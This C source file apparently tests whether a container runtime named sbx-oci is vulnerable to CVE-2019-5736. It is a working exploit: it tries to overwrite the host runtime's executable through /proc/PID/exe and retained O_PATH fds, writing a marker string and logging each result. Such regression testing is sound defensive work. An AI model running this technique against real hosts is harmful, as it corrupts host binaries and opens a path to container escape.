// SPDX-License-Identifier: MIT
/*
 * ociexe: the CVE-2019-5736 attempt against sbx-oci, run inside a container
 * (static; the rootfs is busybox). Two modes:
 *
 *   ociexe scan SECONDS   as the container's init: watches /proc for any
 *                         process whose exe is the runtime (its link names
 *                         sbx-oci, runc or a memfd) while the host runs
 *                         `exec` into the container; for each: open its
 *                         /proc/PID/exe for writing and write, keep an O_PATH
 *                         fd and retry the write through /proc/self/fd after
 *                         the process is gone (the CVE's trick).
 *   ociexe parent         as a createContainer hook: the same on the exe of
 *                         its parent, the runtime's process that runs it.
 *
 * Prints one line per attempt: "TARGET PID LINK open=OK|ERRNO write=OK|ERRNO"
 * and at the end "seen N wrote M".
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static int seen, wrote;

static const char *try_write(const char *path, const char **open_res)
{
	static char res[64];
	int fd = open(path, O_WRONLY | O_CLOEXEC);

	if (fd < 0) {
		*open_res = strerror(errno);
		return "-";
	}
	*open_res = "OK";
	if (pwrite(fd, "EVIL", 4, 0) == 4) {
		wrote++;
		close(fd);
		return "OK";
	}
	snprintf(res, sizeof(res), "%s", strerror(errno));
	close(fd);
	return res;
}

static int attack(int pid, int *keep, int *n_keep)
{
	char path[64], link[256];
	const char *open_res, *w;
	ssize_t n;

	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	n = readlink(path, link, sizeof(link) - 1);
	if (n < 0)
		return 0;
	link[n] = '\0';
	if (!strstr(link, "sbx-oci") && !strstr(link, "runc") && !strstr(link, "memfd"))
		return 0;
	seen++;
	int o = open(path, O_PATH | O_CLOEXEC);
	if (o >= 0) {
		/* the process may have exec'd its program since the readlink:
		 * keep the fd only if it is still the runtime's file */
		char self[64], again[256];
		snprintf(self, sizeof(self), "/proc/self/fd/%d", o);
		ssize_t k = readlink(self, again, sizeof(again) - 1);
		if (k > 0 && *n_keep < 64) {
			again[k] = '\0';
			if (strstr(again, "sbx-oci") || strstr(again, "runc") || strstr(again, "memfd"))
				keep[(*n_keep)++] = o;
			else
				close(o);
		} else {
			close(o);
		}
	}
	w = try_write(path, &open_res);
	printf("target %d %s open=%s write=%s\n", pid, link, open_res, w);
	fflush(stdout);
	return 1;
}

int main(int argc, char **argv)
{
	int keep[64], n_keep = 0, done[4096], n_done = 0;

	if (argc >= 2 && !strcmp(argv[1], "parent")) {
		/* getppid() counts in the container's pid namespace, while /proc
		 * is still the host's before pivot_root: the ppid field of
		 * /proc/self/stat is in /proc's own namespace */
		char buf[512], *p;
		int ppid = 0;
		FILE *f = fopen("/proc/self/stat", "r");
		if (f && fgets(buf, sizeof(buf), f) && (p = strrchr(buf, ')')))
			sscanf(p + 2, "%*c %d", &ppid);
		if (f)
			fclose(f);
		attack(ppid, keep, &n_keep);
	} else if (argc >= 3 && !strcmp(argv[1], "scan")) {
		time_t end = time(NULL) + atoi(argv[2]);
		while (time(NULL) < end) {
			DIR *d = opendir("/proc");
			struct dirent *e;
			while (d && (e = readdir(d))) {
				int pid = atoi(e->d_name), k;
				if (pid <= 1 || pid == getpid())
					continue;
				for (k = 0; k < n_done && done[k] != pid; k++)
					;
				if (k < n_done)
					continue;
				if (attack(pid, keep, &n_keep) && n_done < 4096)
					done[n_done++] = pid;
			}
			if (d)
				closedir(d);
		}
	} else {
		fprintf(stderr, "usage: ociexe scan SECONDS | ociexe parent\n");
		return 2;
	}
	/* after the processes are gone: reopen their exe for writing */
	sleep(1);
	for (int i = 0; i < n_keep; i++) {
		char path[64];
		const char *open_res, *w;
		char link[256] = "";
		snprintf(path, sizeof(path), "/proc/self/fd/%d", keep[i]);
		ssize_t k = readlink(path, link, sizeof(link) - 1);
		if (k > 0)
			link[k] = '\0';
		w = try_write(path, &open_res);
		printf("reopen %d %s open=%s write=%s\n", i, link, open_res, w);
	}
	printf("seen %d wrote %d\n", seen, wrote);
	return 0;
}
